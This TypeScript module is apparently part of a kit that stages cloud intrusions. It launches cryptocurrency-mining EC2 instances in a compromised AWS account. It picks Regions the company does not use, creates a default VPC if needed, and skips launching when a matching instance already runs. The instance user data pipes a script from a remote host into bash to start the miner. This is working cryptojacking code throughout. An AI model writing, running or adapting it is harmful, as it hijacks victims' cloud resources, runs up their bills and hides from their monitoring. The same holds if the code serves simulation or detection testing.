import type { Aws } from "../kit/aws.ts";
import type { Stage } from "../kit/stage.ts";
import { POOL } from "./miner.ts";

/** What miners like, and nobody here uses. */
export const ROGUE_TYPE = "c5.4xlarge";

/** Starts the miner with the machine. */
export const USER_DATA = Buffer.from(
  `#!/bin/bash\ncurl -s http://198.51.100.86/x | bash -s -- ${POOL.name}:${POOL.port}\n`,
).toString("base64");

/** Regions in which the company has nothing. */
const UNUSED = ["ap-southeast-2", "eu-north-1", "sa-east-1", "ap-northeast-1", "ca-central-1"];

/** Two Regions in which the company has nothing, by chance. */
export function unusedRegions({ chance }: Stage): [string, string] {
  const first = chance.pick(UNUSED);
  return [first, chance.pick(UNUSED.filter((region) => region !== first))];
}

/** Amazon's own image in the Region of the client. */
export async function amazonLinux({ ec2 }: Pick<Aws, "ec2">): Promise<string> {
  const { Images = [] } = await ec2.describeImages({
    Owners: ["amazon"],
    Filters: [{ Name: "name", Values: ["al2023-ami-2023*"] }],
  });
  return Images[0]!.ImageId!;
}

/** Sees to it that the Region of the client has a network to launch machines in. */
export async function openRegion(aws: Aws): Promise<void> {
  const { Vpcs = [] } = await aws.ec2.describeVpcs({ Filters: [{ Name: "is-default", Values: ["true"] }] });
  if (!Vpcs.length) await aws.ec2.createDefaultVpc({});
}

/**
 * Launches a machine in the Region of the client, unless there is one: those of a group do not count.
 *
 * @returns how many machines that were
 */
export async function launchMissing(aws: Aws, KeyName?: string): Promise<number> {
  const { Reservations = [] } = await aws.ec2.describeInstances({
    Filters: [
      { Name: "instance-type", Values: [ROGUE_TYPE] },
      { Name: "instance-state-name", Values: ["pending", "running"] },
    ],
  });
  const own = Reservations.flatMap((x) => x.Instances ?? []).filter(
    (x) => !x.Tags?.some((tag) => tag.Key === "aws:autoscaling:groupName"),
  );
  if (own.length) return 0;
  await openRegion(aws);
  await aws.ec2.runInstances({
    ImageId: await amazonLinux(aws),
    InstanceType: ROGUE_TYPE,
    MinCount: 1,
    MaxCount: 1,
    UserData: USER_DATA,
    ...(KeyName !== undefined && { KeyName }),
  });
  return 1;
}
